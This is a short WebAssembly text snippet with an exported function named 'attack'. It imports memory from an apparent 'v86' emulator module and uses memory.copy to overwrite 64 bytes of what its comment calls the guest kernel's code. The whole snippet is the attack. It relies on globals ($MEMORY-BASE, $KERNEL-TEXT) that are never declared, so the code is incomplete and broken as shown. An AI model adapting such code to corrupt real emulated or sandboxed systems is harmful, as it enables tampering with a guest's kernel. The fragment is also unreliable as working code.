;; The guest kernel's code overwritten by memory.copy.
(import "v86" "memory" (memory 1))

(func $attack (export "attack")
  (memory.copy (i32.add (i32.load (global.get $MEMORY-BASE)) (global.get $KERNEL-TEXT)) (i32.const 0x10000) (i32.const 64)))
